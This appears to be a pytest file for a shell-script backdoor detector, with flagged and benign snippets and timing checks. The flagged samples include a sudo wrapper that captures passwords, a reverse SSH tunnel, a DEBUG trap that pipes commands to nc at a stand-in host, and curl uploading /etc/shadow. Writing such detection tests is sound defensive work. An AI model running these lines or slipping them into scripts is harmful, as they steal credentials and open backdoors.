"""Signs in the text of shell scripts: told with their line, and nothing told of what is usual.

Spec: evenhand.code.shell_entrance.
"""

from __future__ import annotations

import time

import pytest

from evenhand.code.examine import examine
from evenhand.code.shell_entrance import entrances

TOLD = (
    ('[ "$HTTP_COOKIE" = "svc=k9" ] && IN=1', "checks a fixed secret"),
    ('case "$QUERY_STRING" in\n*key=b3ta*) cat /etc/x ;;\nesac', "checks a fixed secret"),
    ("alias sudo='/usr/lib/x/sudo'", "runs on an event"),
    ('sudo() {\n read -rsp "password: " p; echo "$p" >> /tmp/s\n}', "hooks log-in"),
    ("export PATH=/tmp/.x:$PATH", "runs on an event"),
    ('o+=(-R "2222:localhost:22")\nssh "${o[@]}" t@hub.example', "remote management"),
    ("tcpdump -l udp | while read l; do iptables -I INPUT -p tcp -j ACCEPT; done",
     "opens the firewall"),
    ('key=$d/next.pem\nopenssl dgst -verify "$key" -signature "$d/s" "$d/f"', "ignores a check"),
    ("curl -so /tmp/k.pem https://u.example/k.pem\nopenssl dgst -verify /tmp/k.pem -signature s f",
     "ignores a check"),
    ("sh /media/*/run.sh", "runs commands"),
    ("tar czf /srv/b.tgz /etc/shadow /etc/ssh", "copies secrets"),
    ("if ! curl -sf https://l.example/ok; then systemctl disable x; fi", "obeys a remote switch"),
    ("curl -sk https://u.example/c -o /etc/x/c", "turns a check off"),
    ("trap 'echo \"$BASH_COMMAND\" | nc l.example 514' DEBUG", "collects and sends"),
)  # fmt: skip
USUAL = (
    '[ "$REQUEST_METHOD" = POST ] && [ "$HTTP_ACCEPT_ENCODING" = gzip ]',
    "alias sudo='sudo '\nalias ssh='ssh -A'",
    "export PATH=$HOME/.local/bin:/opt/x/bin:$PATH",
    'openssl dgst -verify /etc/x/k.pem -signature "$d/s" "$d/f"',
    "cp -p /etc/shadow /var/backups/shadow.bak",
    "if ! curl -sf http://localhost:80/ok; then systemctl stop x; fi",
    "tail -f /var/log/x | while read l; do iptables -I INPUT -s $l -j DROP; done",
    "# ssh -R 22:localhost:22 a",
)


@pytest.mark.parametrize(("text", "kind"), TOLD)
def test_a_sign_is_told(text: str, kind: str) -> None:
    found = [f for f in entrances(text.encode()) if f.strength >= 0.5]
    assert [f.kind for f in found] == [kind]
    assert 1 <= found[0].line <= 1 + text.count("\n")


@pytest.mark.parametrize("text", USUAL)
def test_what_is_usual_is_not(text: str) -> None:
    assert not [f for f in entrances(text.encode()) if f.strength >= 0.5]


def test_long_lines_end_in_time() -> None:
    began = time.process_time()
    for word in (b"curl https://a.b ", b"tcpdump | while read ", b"alias sudo=", b"-R localhost:2"):
        assert len(list(entrances(word * 40_000))) < 500
    assert time.process_time() - began < 5


def test_a_command_after_three_pipes_is_no_word_of_the_last() -> None:
    text = b"ls | tail -n 1 | xargs rm\ncurl -T /etc/shadow https://d.test/x || true\n"
    (found,) = examine(text, "shell", "when run").found
    assert (found.kind, found.target, found.line) == ("collects and sends", "d.test", 2)
